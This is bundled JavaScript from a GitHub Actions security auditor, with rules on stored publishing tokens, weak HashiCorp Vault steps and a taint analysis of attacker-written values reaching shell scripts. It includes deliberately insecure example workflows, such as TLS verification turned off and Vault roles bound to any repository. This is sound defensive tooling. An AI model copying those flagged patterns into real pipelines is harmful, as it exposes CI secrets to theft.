/** Name of the registry; undefined for what publishes nothing. */
function publishes(program, args, depth = 0) {
    // Most programs publish nothing and start none that does.
    const isPython = program.startsWith('python');
    if (!isPython && !publishers.has(program) && !fronts.has(program))
        return undefined;
    if ((0,src_script/* hasOption */.Kz)(args, '--dry-run', '-n') && program !== 'nuget')
        return undefined;
    if (isPython && /^python(?:3(?:\.\d{1,2})?)?$/.test(program) && args[0] === '-m')
        return publishes(args[1] ?? '', args.slice(2), depth);
    const words = (0,program_words/* programWords */.O)(program, args);
    const own = registryOf(program, words);
    if (own !== undefined || depth > 2)
        return own;
    const front = fronts.get(program)?.find((verbs) => verbs.every((verb, at) => words[at] === verb));
    const started = front === undefined ? undefined : words[front.length];
    if (front === undefined || started === undefined)
        return undefined;
    return publishes(started.replace(/@.*$/, ''), words.slice(front.length + 1), depth + 1);
}
/** Where a program publishes to, and whether its words ask for that. */
const publishers = new Map([
    ['npm', ['npm', (words) => words.includes('publish') && !/^(?:run|run-script|exec|view|config)$/.test(words[0] ?? '')]],
    ['yarn', ['npm', ([verb, second]) => verb === 'publish' || (verb === 'npm' && second === 'publish')]],
    ['pnpm', ['npm', ([verb]) => verb === 'publish']],
    ['bun', ['npm', ([verb]) => verb === 'publish']],
    ['changeset', ['npm', ([verb]) => verb === 'publish']],
    ['lerna', ['npm', ([verb]) => verb === 'publish']],
    ['nx', ['npm', ([verb, second]) => verb === 'release' && second === 'publish']],
    [
        'cargo',
        ['crates.io', (words) => words.find((word) => !word.startsWith('+') && word !== 'workspaces' && word !== 'release') === 'publish'],
    ],
    ['gem', ['RubyGems', ([verb]) => verb === 'push']],
    ['twine', ['PyPI', ([verb]) => verb === 'upload']],
    ['uv', ['PyPI', ([verb]) => verb === 'publish']],
    ['hatch', ['PyPI', ([verb]) => verb === 'publish']],
    ['poetry', ['PyPI', ([verb]) => verb === 'publish']],
    ['pdm', ['PyPI', ([verb]) => verb === 'publish']],
    ['flit', ['PyPI', ([verb]) => verb === 'publish']],
    ['maturin', ['PyPI', ([verb]) => verb === 'publish' || verb === 'upload']],
    ['nuget', ['NuGet', ([verb]) => verb === 'push']],
    ['dotnet', ['NuGet', ([verb, second]) => verb === 'nuget' && second === 'push']],
]);
function registryOf(program, words) {
    const [registry, asks] = publishers.get(program) ?? [];
    return asks?.(words) === true ? registry : undefined;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/use-trusted-publishing.js
// Publishing with a stored token where the registry takes the job\u2019s own identity.








const useTrustedPublishing = (0,src_rule/* audit */.s)({
    id: 'use-trusted-publishing',
    severity: 'low',
    confidence: 'high',
    title: 'A package is published with a stored token',
    why: 'A stored token works for whoever gets hold of it, for years; with trusted publishing there is none, and the registry knows which workflow published.',
    remedy: 'Enter the workflow as trusted publisher at the registry, give the job `id-token: write`, and delete the token.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: [
        'https://docs.zizmor.sh/audits/#use-trusted-publishing',
        'https://docs.pypi.org/trusted-publishers/',
        'https://docs.npmjs.com/trusted-publishers',
        'https://crates.io/docs/trusted-publishing',
        'https://guides.rubygems.org/trusted-publishing/',
    ],
    on: ['step'],
    *check(step, context) {
        if (step.uses !== undefined)
            yield* actionProblems(step, context);
        else if (!mayProveItself((0,parts/* jobOf */.Zw)(step)))
            yield* scriptProblems(step, context);
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)(`- uses: pypa/gh-action-pypi-publish@${example/* commit */.cd} # v1.13.0\n  with:\n    password: \${{ secrets.PYPI }}`),
            (0,example/* stepsExample */.Y6)('- run: npm publish --access public'),
            (0,example/* stepsExample */.Y6)('- run: |\n    python -m build\n    twine upload dist/*'),
            (0,example/* stepsExample */.Y6)(`- uses: rubygems/release-gem@${example/* commit */.cd} # v1.1.1\n  with:\n    setup-trusted-publisher: false`),
        ],
        good: [
            (0,example/* stepsExample */.Y6)(`- uses: pypa/gh-action-pypi-publish@${example/* commit */.cd} # v1.13.0`, 'permissions:\n  id-token: write # trusted publishing\nenvironment: pypi'),
            (0,example/* stepsExample */.Y6)('- run: npm publish --dry-run\n- run: twine check dist/*'),
            (0,example/* stepsExample */.Y6)('- run: npm publish --access public', 'permissions:\n  id-token: write # trusted publishing\nenvironment: npm'),
        ],
    },
});
function mayProveItself(job) {
    const permissions = job?.permissions ?? job?.workflow.permissions;
    if (permissions?.kind === 'write-all')
        return true;
    return permissions?.scopes.some(({ name, access }) => name === 'id-token' && access === 'write') === true;
}
function* scriptProblems(step, context) {
    const script = (0,src_script/* scriptOf */.YI)(step, context);
    if (script === undefined)
        return;
    for (const { command, name, args } of (0,src_script/* invocationsIn */.J3)(script)) {
        const registry = publishes(name, args);
        if (registry === undefined)
            continue;
        yield { at: script.place(command.node), statement: step.map.at, message: `This publishes to ${registry} with a stored token` };
    }
}
/** Inputs by which an action is told to use a token, and hosts that know trusted publishing. */
function tokenInput(step) {
    switch ((0,parts/* actionName */.aM)(step)) {
        case 'pypa/gh-action-pypi-publish': {
            const host = (0,parts/* inputText */.AN)(step, 'repository-url') ?? (0,parts/* inputText */.AN)(step, 'repository_url');
            const known = host === undefined || /^https:\/\/(?:upload|test)\.pypi\.org\//.test(host);
            return known && isGiven(step, 'password') ? 'password' : undefined;
        }
        case 'rubygems/release-gem':
            return (0,parts/* isFalse */.Wu)((0,parts/* inputText */.AN)(step, 'setup-trusted-publisher')) ? 'setup-trusted-publisher' : undefined;
        case 'rubygems/configure-rubygems-credentials': {
            const host = (0,parts/* inputText */.AN)(step, 'gem-server');
            const known = host === undefined || host.startsWith('https://rubygems.org');
            return known && isGiven(step, 'api-token') ? 'api-token' : undefined;
        }
        default:
            return undefined;
    }
}
/** An action takes an input that is empty for none. */
function isGiven(step, input) {
    return (0,parts/* inputOf */.wg)(step, input) !== undefined && (0,parts/* inputText */.AN)(step, input) !== '';
}
function* actionProblems(step, { file }) {
    const input = tokenInput(step);
    const given = input === undefined ? undefined : (0,parts/* inputOf */.wg)(step, input);
    if (input === undefined || given === undefined)
        return;
    const inputs = (0,parts/* entryOf */.Ms)(step.map, 'with')?.value;
    const entry = (0,parts/* entryOf */.Ms)(step.map, 'uses');
    yield {
        // From the action to the input, whichever stands first.
        at: entry === undefined ? (0,parts/* placeOfPair */.$H)(given) : spanning((0,src_context/* placeOfEntry */.h$)(entry.key, entry.value), (0,parts/* placeOfPair */.$H)(given)),
        statement: step.map.at,
        message: `\`${input}\` makes the action publish with a stored token`,
        fix: () => {
            // Without the right to prove itself the job could publish nothing at all.
            if (inputs?.kind !== 'map' || !mayProveItself((0,parts/* jobOf */.Zw)(step)))
                return undefined;
            const edits = inputs.entries.length === 1 ? (0,src_edits/* removeKey */.yE)(file, step.map, 'with') : (0,src_edits/* removeKey */.yE)(file, inputs, given.name);
            return edits === undefined ? undefined : { description: 'Publish without a token', kind: 'suggested', edits };
        },
    };
}
function spanning(a, b) {
    return { start: Math.min(a.start, b.start), end: Math.max(a.end, b.end) };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/weak-vault-step.js
// Steps that take secrets from Vault, more widely than needed.





const step = (more) => `- uses: hashicorp/vault-action@${example/* commit */.cd} # v3.3.0\n  with:\n    url: https://vault.example.com\n    method: jwt\n    role: ci\n    secrets: secret/data/ci key | KEY${more}`;
const right = 'permissions:\n  id-token: write # for Vault\nenvironment: production';
const weakVaultStep = (0,src_rule/* audit */.s)({
    id: 'weak-vault-step',
    severity: 'medium',
    confidence: 'high',
    title: 'Secrets of Vault go further than the step that needs them',
    why: 'What lies in the environment of the job, is read without TLS, or is bound to any repository, is there for more than was meant.',
    remedy: 'Set `exportEnv: false` and use the step\u2019s outputs, keep TLS on, and bind roles to one repository and one ref.',
    controls: controls/* controls */.n.credentials,
    risks: risks/* risks */.X.credentials,
    references: ['https://github.com/hashicorp/vault-action#reference', 'https://developer.hashicorp.com/vault/docs/auth/jwt'],
    on: ['step'],
    only: (part) => (0,parts/* runsScript */.GE)(part) || (0,parts/* actionName */.aM)(part) === 'hashicorp/vault-action',
    *check(part, context) {
        if ((0,parts/* actionName */.aM)(part) === 'hashicorp/vault-action')
            yield* stepProblems(part);
        yield* roleProblems(part, context);
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)(step(''), right),
            (0,example/* stepsExample */.Y6)(step('\n    exportEnv: false\n    exportToken: true'), right),
            (0,example/* stepsExample */.Y6)(step('\n    exportEnv: false\n    tlsSkipVerify: true'), right),
            (0,example/* stepsExample */.Y6)("- run: vault write auth/jwt/role/ci bound_subject='repo:example/*' user_claim=sub role_type=jwt"),
        ],
        good: [
            (0,example/* stepsExample */.Y6)(step('\n    exportEnv: false'), right),
            (0,example/* stepsExample */.Y6)('- run: vault write auth/jwt/role/ci bound_subject=repo:example/app:ref:refs/heads/main user_claim=sub role_type=jwt'),
        ],
    },
});
function* stepProblems(part) {
    const statement = part.map.at;
    const exported = (0,parts/* inputOf */.wg)(part, 'exportenv');
    if (!(0,parts/* isFalse */.Wu)(exported?.scalar?.text) && part.uses !== undefined)
        yield {
            at: exported === undefined ? part.uses.scalar.at : (0,parts/* placeOfPair */.$H)(exported),
            statement,
            severity: 'low',
            message: 'The secrets become variables of every later step',
        };
    const token = (0,parts/* inputOf */.wg)(part, 'exporttoken');
    if (token !== undefined && (0,parts/* isTrue */.Hn)(token.scalar?.text))
        yield { at: (0,parts/* placeOfPair */.$H)(token), statement, message: 'The token of Vault becomes a variable of every later step' };
    const open = (0,parts/* inputOf */.wg)(part, 'tlsskipverify');
    if (open !== undefined && (0,parts/* isTrue */.Hn)(open.scalar?.text))
        yield { at: (0,parts/* placeOfPair */.$H)(open), statement, severity: 'high', message: 'Anyone on the way can answer as Vault' };
    const url = (0,parts/* inputOf */.wg)(part, 'url');
    if (url !== undefined && /^http:\/\//i.test((0,parts/* inputText */.AN)(part, 'url') ?? ''))
        yield { at: (0,parts/* placeOfPair */.$H)(url), statement, severity: 'high', message: 'The secrets are read without encryption' };
}
/** Roles that scripts write: to whom Vault answers. */
function* roleProblems(part, context) {
    const script = (0,src_script/* scriptOf */.YI)(part, context);
    if (script === undefined)
        return;
    for (const { command, name, args } of (0,src_script/* invocationsIn */.J3)(script)) {
        if (name !== 'vault' || args[0] !== 'write' || !/auth\/[^/]{1,60}\/role\//.test(args.join(' ')))
            continue;
        const bound = args.find((word) => /^bound_(?:subject|claims)=/.test(word));
        const value = bound?.slice(bound.indexOf('=') + 1) ?? '';
        if (bound !== undefined && !isBroad(value))
            continue;
        yield {
            at: script.place(command.node),
            statement: part.map.at,
            severity: 'high',
            message: bound === undefined
                ? 'The role is bound to no repository at all'
                : `The role is bound to \`${value.slice(0, 80)}\`, which more than one repository is`,
        };
    }
}
/** A star where the owner or the repository stands. */
function isBroad(value) {
    const subject = /repo:([^:"'}\s]{1,200})/.exec(value)?.[1];
    return subject?.includes('*') === true;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/credentials/index.js
// Tokens, secrets and keys: where they lie, who gets them.













const credentialRules = [
    rightsBesideInstalls,
    artipacked/* artipacked */.J,
    githubApp,
    hardcodedContainerCredentials,
    overprovisionedSecrets,
    secretInArtifact,
    secretInLog,
    secretsInherit,
    secretsOutsideEnv,
    staticCloudKey,
    unredactedSecrets,
    useTrustedPublishing,
    weakVaultStep,
];

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/workflow/scalar-text.js
var scalar_text = __webpack_require__(8857);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/paths.js
var paths = __webpack_require__(6379);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/inert-match.js
// What a pattern lets through: whether a match of it, or a group of that, can hold only letters that a shell takes for letters.
/**
 * @param pattern of JavaScript, letter by letter; one with an expression in it is not known.
 * @param output `match` for the whole, `group1` for the first group.
 */
function isInertMatch(pattern, output) {
    if (pattern.length > maxPattern || pattern.includes('${{'))
        return false;
    if (output === 'match')
        return inert.test(pattern);
    const number = /^group(\d{1,2})$/.exec(output)?.[1];
    const group = number === undefined ? undefined : groupsOf(pattern)[Number(number) - 1];
    return group !== undefined && inert.test(group);
}
const maxPattern = 1000;
const letter = '[A-Za-z0-9_,:/@-]';
const escaped = String.raw `\\[dwbB./@:_-]`;
/** Ranges only of letters of one kind: between others stand what a shell obeys. A line is one itself behind a range and at either end. */
const set = String.raw `\[-?(?:(?:[a-z]-[a-z]|[A-Z]-[A-Z]|[0-9]-[0-9]|\\[dw])(?:-(?=[A-Za-z0-9_]))?|(?:\\[./@:_-]|[A-Za-z0-9_.,:/@+])(?!-[^\]])|-(?=\]))+\]`;
const count = String.raw `\{\d{1,5}(?:,\d{0,5})?\}`;
const inert = new RegExp(String.raw `^(?:${letter}|${escaped}|${set}|${count}|\(\?<\w{1,50}>|[\^$|()?*+])+$`);
/** What stands in each group that is counted, in the order of their openings. */


;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/known-outputs.js
// Outputs of actions of others that carry what an outsider wrote: names of files and branches, texts of issues, parts of a conversation.
// Facts: what the actions are known to do, November 2026; not held row by row against their documentation.


/** Routes of GitHub's API whose answers nobody without rights writes. */
const ofInsiders = /^GET \/repos\/[^/\s]{1,200}\/[^/\s]{1,200}\/(?:releases|tags|collaborators|environments)(?:\/|$)/;
const known_outputs_known = {
    'tj-actions/changed-files': [{ outputs: /_files$/, carried: 'names' }],
    'tj-actions/verify-changed-files': [{ outputs: /^changed[-_]files$/, carried: 'names' }],
    'step-security/changed-files': [{ outputs: /_files$/, carried: 'names' }],
    'dorny/paths-filter': [{ outputs: /_files$/, carried: 'names' }],
    'jitterbit/get-changed-files': [{ outputs: /./, carried: 'names' }],
    'trilom/file-changes-action': [{ outputs: /^files/, carried: 'names' }],
    'lots0logs/gh-action-get-changed-files': [{ outputs: /./, carried: 'names' }],
    'ana06/get-changed-files': [{ outputs: /./, carried: 'names' }],
    'masesgroup/retrieve-changed-files': [{ outputs: /./, carried: 'names' }],
    'futuratrepadeira/changed-files': [{ outputs: /./, carried: 'names' }],
    'umani/changed-files': [{ outputs: /./, carried: 'names' }],
    'knl/changed-files': [{ outputs: /./, carried: 'names' }],
    'technote-space/get-diff-action': [{ outputs: /^(?:diff|git_diff)/i, carried: 'names' }],
    'tj-actions/branch-names': [{ outputs: /^(?:current_branch|head_ref_branch|ref_branch)$/, carried: 'branch' }],
    'nelonoel/branch-name': [{ outputs: /./, carried: 'branch' }],
    'xt0rted/pull-request-comment-branch': [
        { outputs: /^head_(?:ref|sha)$/, carried: 'head' },
        { outputs: /^head_ref$/, carried: 'branch' },
    ],
    'alessbell/pull-request-comment-branch': [
        { outputs: /^head_(?:ref|sha)$/, carried: 'head' },
        { outputs: /^head_ref$/, carried: 'branch' },
    ],
    'eficode/resolve-pr-refs': [
        { outputs: /^head_(?:ref|sha)$/, carried: 'head' },
        { outputs: /^head_ref$/, carried: 'branch' },
    ],
    'potiuk/get-workflow-origin': [
        { outputs: /^sourceHead(?:Branch|Sha)|mergeCommitSha$/, carried: 'head' },
        { outputs: /^sourceHeadBranch$/, carried: 'branch' },
    ],
    'github/branch-deploy': [
        { outputs: /^(?:ref|sha)$/, carried: 'head' },
        { outputs: /^(?:ref|comment_body|params)$/, carried: 'conversation' },
    ],
    'peter-murray/issue-body-parser-action': [{ outputs: /./, carried: 'conversation' }],
    'zentered/issue-forms-body-parser': [{ outputs: /./, carried: 'conversation' }],
    'stefanbuck/github-issue-parser': [{ outputs: /^(?:jsonstring|issueparser_)/i, carried: 'conversation' }],
    'issue-ops/parser': [{ outputs: /./, carried: 'conversation' }],
    'peter-evans/find-comment': [{ outputs: /^comment-body$/, carried: 'conversation' }],
    '8bitjonny/gh-get-current-pr': [{ outputs: /^(?:pr_title|pr_body|pr_branch|pr)$/i, carried: 'conversation' }],
    'jwalton/gh-find-current-pr': [{ outputs: /^(?:title|body)$/, carried: 'conversation' }],
    'actions-ecosystem/action-get-latest-tag': [],
    'actions-ecosystem/action-regex-match': [{ outputs: /./, carried: 'inputs' }],
    // The message repeats the title that it refuses.
    'amannn/action-semantic-pull-request': [{ outputs: /^(?:error_message|scope|subject)$/, carried: 'conversation' }],
    'xt0rted/slash-command-action': [{ outputs: /^command-arguments$/, carried: 'conversation' }],
    'khan/pull-request-comment-trigger': [{ outputs: /^comment_body$/, carried: 'conversation' }],
    'shanegenschaw/pull-request-comment-trigger': [{ outputs: /^comment_body$/, carried: 'conversation' }],
    'actions/ai-inference': [{ outputs: /^response/, carried: 'inputs' }],
    'openai/codex-action': [{ outputs: /^final-message$/, carried: 'inputs' }],
    'google-github-actions/run-gemini-cli': [{ outputs: /^summary$/, carried: 'inputs' }],
    'anthropics/claude-code-action': [{ outputs: /^structured_output$/, carried: 'inputs' }],
    'mad9000/actions-find-and-replace-string': [{ outputs: /./, carried: 'inputs' }],
    'frabert/replace-string-action': [{ outputs: /./, carried: 'inputs' }],
    'ashley-taylor/regex-property-action': [{ outputs: /./, carried: 'inputs' }],
    'bluwy/substitute-string-action': [{ outputs: /./, carried: 'inputs' }],
    'haya14busa/action-cond': [{ outputs: /^value$/, carried: 'inputs' }],
    // Whatever of GitHub's API it was asked for.
    'octokit/request-action': [{ outputs: /^data$/, carried: 'conversation', unless: { input: 'route', is: ofInsiders } }],
    'octokit/graphql-action': [{ outputs: /^data$/, carried: 'conversation' }],
};
/** Whether an output holds only letters that a shell takes for letters, whatever the step was given. */
function isInert(step, slug, output) {
    return slug === 'actions-ecosystem/action-regex-match' && isInertMatch((0,parts/* inputText */.AN)(step, 'regex') ?? '', output);
}
function carriedBy(step, slug, output) {
    return ((known_outputs_known[slug] ?? [])
        .filter(({ outputs, unless }) => {
        if (output !== '*' && !outputs.test(output))
            return false;
        return unless === undefined || !unless.is.test((0,parts/* inputText */.AN)(step, unless.input)?.trim() ?? '');
    })
        // Names stand behind each other, unless the step is told what stands between them.
        .map(({ carried }) => (carried === 'names' && !separates(step) ? 'line-of-names' : carried)));
}
function separates(step) {
    return step.with.some(({ name, scalar }) => /separator$|delimiter$/.test(name.toLowerCase()) && /\n|\\n|\$\{\{/.test(scalar?.text ?? ''));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/readings.js
// What scripts look up themselves: by programs, in the environment of the runner, in answers of GitHub's API.
/** Events by which somebody else begins or goes on with a conversation. */
const conversationEvents = /^(?:pull_request|issue|discussion|workflow_run)/;
/** Events that bring no text of an outsider's, and start what goes through issues and pull requests by itself. */
const lookupEvents = new Set(['schedule', 'workflow_dispatch', 'repository_dispatch']);
/** Words of scripts that ask GitHub for what people wrote in issues and pull requests. */
const lookupWords = /\bgh\b[^|;&]{0,60}\b(?:issue|pr)\b[^|;&]{0,60}\b(?:view|list|status)\b|\/(?:issues|pulls|comments)\b|\bgraphql\b|\b(?:pulls|issues|search|discussions)\.(?:get|list)/;
const readingSays = {
    names: { name: 'names of the changed files', lines: true },
    conversation: { name: 'texts of the conversation', lines: true },
    titles: { name: 'titles of the conversation', lines: false },
    head: { name: 'the commit of the pull request', lines: false },
    // Looked for in the repository itself it is a branch of that one.
    'head-branch': { name: 'the pull request\u2019s head.ref', lines: false },
};
/** Whether a value may hold a line that ends it where the mark for its end can be guessed: names of files stand one a line. */
function mayEndAtMark({ lines, name }) {
    return lines || name === readingSays.names.name;
}
/** What a way through an answer of GitHub's API leads to that somebody else wrote. */
function answerHolds(way) {
    const last = way.at(-1) ?? '';
    if (way.includes('base'))
        return [];
    if (/^(?:sha|headrefoid|headrepository|full_name)$/.test(last))
        return way.includes('head') || last.startsWith('head') ? ['head'] : [];
    if (last === 'ref' || last === 'headrefname')
        return ['head-branch', 'titles'];
    if (last === 'head' || last === 'label')
        return last === 'label' ? ['titles'] : ['head', 'titles'];
    if (/^(?:filename|path|files)$/.test(last))
        return ['names'];
    if (/^(?:title|messageheadline)$/.test(last))
        return ['titles'];
    if (/^(?:body|bodytext|bodyhtml|body_text|body_html|message|messagebody|description|comments|commits|patch)$/.test(last))
        return ['conversation'];
    return way.every((part) => /^(?:\*|data|items|nodes|edges|node|repository|issue|pullrequest|issues|pullrequests|search)$/.test(part))
        ? ['conversation']
        : [];
}
/** What is taken out of a whole answer about a pull request: its head is the code of whoever opened it, its base is the repository's own. */
function partOfAnswer(taint, parts) {
    const { source } = taint;
    if (source.name !== readingSays.conversation.name || !parts.some((part) => part === 'head' || part === 'base'))
        return [taint];
    const [first] = answerHolds(parts);
    if (first !== 'head' && first !== 'head-branch')
        return first === undefined ? [] : [taint];
    const byBranch = parts.at(-1) === 'ref';
    // A branch may be called as its author likes; a commit and a repository have names of letters that do no harm.
    const { name } = readingSays[byBranch ? 'head-branch' : 'head'];
    return [{ ...taint, source: { ...source, name, lines: false, text: byBranch, code: true } }];
}
/** Variables that the runner sets, as the ways that they stand for. */
const builtInWays = {
    github_head_ref: ['github', 'head_ref'],
    github_ref_name: ['github', 'ref_name'],
    github_ref: ['github', 'ref'],
};

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/sources.js
var sources = __webpack_require__(5197);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/step-script.js + 1 modules
var step_script = __webpack_require__(7915);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/taint.js
// A value that somebody else controls: who writes it, and on which way it came.
/** Origins of one value that are told apart. */
const maxTaints = 8;
const maxSteps = 40;
function withStep(taints, step) {
    return taints.map((taint) => (taint.steps.length >= maxSteps ? taint : { ...taint, steps: [...taint.steps, step] }));
}
/** Of several ways from one source that bring the same of it, the shortest. */
function few(taints) {
    if (taints.length < 2)
        return taints;
    const best = new Map();
    for (const taint of taints) {
        const { source, inert } = taint;
        const key = `${source.name} ${source.writer} ${source.lines} ${inert === true} ${source.events?.join() ?? ''}`;
        const before = best.get(key);
        if (before === undefined || taint.steps.length < before.steps.length)
            best.set(key, taint);
    }
    const found = [...best.values()];
    // What is left out must not be what does most harm.
    return found.length <= maxTaints ? found : found.sort((a, b) => weakness(a) - weakness(b)).slice(0, maxTaints);
}
function weakness({ source: { writer, text, lines, weak, stored }, inert }) {
    const marks = [weak === true, stored === true, inert === true, !text, !lines].filter((mark) => mark).length;
    // Whoever has no rights comes first, whatever it is that they write.
    return marks + (writer === 'outsider' ? 0 : 10);
}
/** The same without line ends. */
function onOneLine(taint) {
    return taint.source.lines ? { ...taint, source: { ...taint.source, lines: false } } : taint;
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/shell.js
var src_shell = __webpack_require__(9482);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/script-words.js
// What the words of a script say before anybody goes through its commands.


/** Whether a step may leave something to those behind it, in a file or a variable: of what it takes, or by its script. */
function mayHandOn(step) {
    const { run } = step;
    if (run !== undefined)
        return (0,src_shell/* shellOf */.of)(step) === 'bash' ? writing.test(run.text) || holdsOther(run.text) : writingElsewhere.test(run.text);
    return !isScriptOfAction(step) || writingInScript.test((0,parts/* inputOf */.wg)(step, 'script')?.scalar?.text ?? '');
}
/** How bash writes a file or a variable; outputs are asked for by name, and summaries and logs by nobody. */
const writing = />(?!>|&[\d-]|\s{0,9}["']?(?:\/dev\/|\$\{?GITHUB_(?:OUTPUT|STATE|STEP_SUMMARY)\b))|::|\b(?:tee|cp|mv|sed)\b/;
const writingElsewhere = />|env|content|out-|write|append|open|copy|move/i;
const writingInScript = /\benv\b|_ENV\b|exportVariable|write|append|copy|rename/i;
/** Whether a script of bash hands one of another language to a program, behind an option or in a heredoc. */
function holdsOther(text) {
    return (/\b(?:python|pypy|node|bun|pwsh|powershell)/i.test(text) &&
        /<<|\s["']?(?:-[a-z]*c|-e|-p|-pe|--eval|--print|-command)["']?\s/i.test(text));
}
function isScriptOfAction({ uses }) {
    return uses?.target.kind === 'repository' && uses.target.slug === 'actions/github-script';
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/written.js
// Which steps write a variable for later ones, or a file that later steps read: in the same job, or in another whose artifact or cache a
// step takes.




/** Uploads of one name that are gone through. */
const maxUploads = 200;
const written_none = [];
const written_variables = new WeakMap();
const written_files = new WeakMap();
/** Writes to GITHUB_ENV under a name in small letters, before a step. */
function variablesWritten(name, job, before) {
    let known = written_variables.get(job);
    if (known === undefined) {
        known = byKey(job, (_, text) => /GITHUB_ENV|set-env|exportVariable/i.test(text), ({ file, name: own }) => (file === 'env' ? own?.toLowerCase() : undefined));
        written_variables.set(job, known);
    }
    return (known.get(name) ?? written_none).filter(({ run }) => before === undefined || run.order < before.order);
}
/** Writes to a file by steps up to this one. */
function fileWritten(path, step) {
    const { job } = step;
    return job === undefined ? written_none : (filesOf(job).get(path) ?? written_none).filter(({ run }) => run.order <= step.order);
}
function filesOf(job) {
    const before = written_files.get(job);
    if (before !== undefined)
        return before;
    const made = byKey(job, mayHandOn, ({ file, path }) => (file === 'workspace' ? path?.toLowerCase() : undefined));
    written_files.set(job, made);
    return made;
}
/** @param mayWrite by the words of a script, most of which write nothing. */
function byKey(job, mayWrite, keyOf) {
    const found = new Map();
    for (const run of job.steps) {
        const text = run.step.run?.text ?? run.step.with.find(({ name }) => name === 'script')?.scalar?.text;
        if (text === undefined || !mayWrite(run.step, text))
            continue;
        const own = (0,step_script/* stepScript */.M)(run.step);
        for (const write of own?.facts.writes ?? []) {
            const key = keyOf(write);
            if (key === undefined || own === undefined)
                continue;
            const list = found.get(key);
            if (list === undefined)
                found.set(key, [{ run, script: own.scalar, write }]);
            else
                list.push({ run, script: own.scalar, write });
        }
    }
    return found;
}
/**
 * What stands behind a file that a step of this job took from an artifact or cache of another job.
 * @param cut told where more is put up than is gone through.
 */
function filesBrought(path, step, cut) {
    const { job } = step;
    if (job === undefined)
        return [];
    const found = [];
    for (const taken of job.steps) {
        if (taken.order >= step.order)
            break;
        const uploads = (0,taint_uploads/* uploadsTaken */.s1)(taken).filter((upload) => upload.job !== job);
        if (uploads.length > maxUploads)
            cut();
        for (const run of uploads.slice(0, maxUploads)) {
            const paths = (0,taint_uploads/* uploadedPaths */.dB)(run.step).map((path) => path.toLowerCase());
            for (const there of run.job === undefined ? [] : filesOf(run.job).keys())
                if ((0,src_script/* baseName */.Fl)(there) === (0,src_script/* baseName */.Fl)(path) && (0,taint_uploads/* takesAlong */.Qt)(paths, there))
                    found.push({ path: there, upload: run, taken });
        }
    }
    if (found.length > maxUploads)
        cut();
    return found.slice(0, maxUploads);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/evaluate.js
// Where a value comes from, over any number of hops: variables, outputs of steps and jobs, files of the runner, inputs of callers. Worked
// out backwards from the place where it is used, for one way of running at a time.











/** Expressions, variables and files that a value is followed over at once; more would overflow the stack. */
const maxHops = 200;
const nothing = [];
/** Contexts that may bring something of somebody else's: most expressions name a secret, a variable of the organisation, or the runner. */
const bringers = /\b(?:github|env|inputs|steps|needs|jobs|matrix)\b/i;
function scopeOfStep(run) {
    return { file: run.file, workflow: run.job?.within, job: run.job, step: run };
}
function scopeOfJob(job) {
    return { file: job.within.file, workflow: job.within, job, step: undefined };
}
/**
 * @param foreign asked when a script reads files.
 * @param cut told where a value came over more hops, or from more uploads, than are followed.
 */
function evaluator(foreign, cut) {
    const scalars = new WeakMap();
    const outputs = new WeakMap();
    const variables = new WeakMap();
    const expressions = new WeakMap();
    let hops = 0;
    return { ofScalar, ofTree, ofParts, ofVariable, ofFiles: foreign };
    /** Looked for once in each scalar: every value that its script writes asks. */
    function expressionsOf(scalar) {
        const before = expressions.get(scalar);
        if (before !== undefined)
            return before;
        const found = (0,find/* expressionsIn */.l)(scalar.text);
        expressions.set(scalar, found);
        return found;
    }
    /** Each scalar once in each scope; one that leads to itself brings nothing new. */
    function ofScalar(scalar, scope) {
        if (!scalar.text.includes('${{') || !bringers.test(scalar.text))
            return nothing;
        const key = scope.step ?? scope.job ?? scope.workflow ?? scope.file;
        const known = scalars.get(scalar) ?? new Map();
        scalars.set(scalar, known);
        const before = known.get(key);
        if (before !== undefined)
            return before;
        known.set(key, nothing);
        const found = few(expressionsOf(scalar).flatMap(({ inner, text }) => {
            const tree = (0,parse/* parseExpression */.YK)(text);
            return tree.kind === 'mistake' ? [] : ofTree(tree, scalar, inner.start, scope);
        }));
        known.set(key, found);
        return found;
    }
    function ofTree(tree, scalar, start, scope) {
        const place = (node) => (0,scalar_text/* scalarText */.w)(scope.file.file.text, scalar).spanOf(start + node.span.start, start + node.span.end);
        return few(ofNode(tree, scope, place));
    }
    function ofNode(node, scope, place) {
        switch (node.kind) {
            case 'literal':
            case 'binary':
            case 'unary':
                return nothing;
            case 'logical': {
                // Of `a && b` the last is what comes out, of `a || b` any.
                const operands = node.operator === '&&' ? node.operands.slice(-1) : node.operands;
                return operands.flatMap((operand) => ofNode(operand, scope, place));
            }
            case 'call':
                return ofCall(node, scope, place);
            default: {
                const way = (0,paths/* wayOf */.VO)(node);
                if (way !== undefined)
                    return ofWay(way, scope, place(node));
                const root = (0,paths/* rootOfWay */.BN)(node);
                if (root === node)
                    return nothing;
                const taken = (0,paths/* partsBelowRoot */.Cz)(node);
                const copied = (0,paths/* wayOfCopy */.eC)(root);
                if (copied !== undefined)
                    return ofWay([...copied, ...taken], scope, place(node));
                const all = ofNode(root, scope, place).flatMap((taint) => partOfAnswer(taint, taken));
                return node.kind === 'property' && plainKeys.test(node.name) ? all.filter(({ source }) => source.code) : all;
            }
        }
    }
    function ofCall(node, scope, place) {
        const name = node.name.toLowerCase();
        // In JSON line ends are escaped.
        if (name === 'tojson')
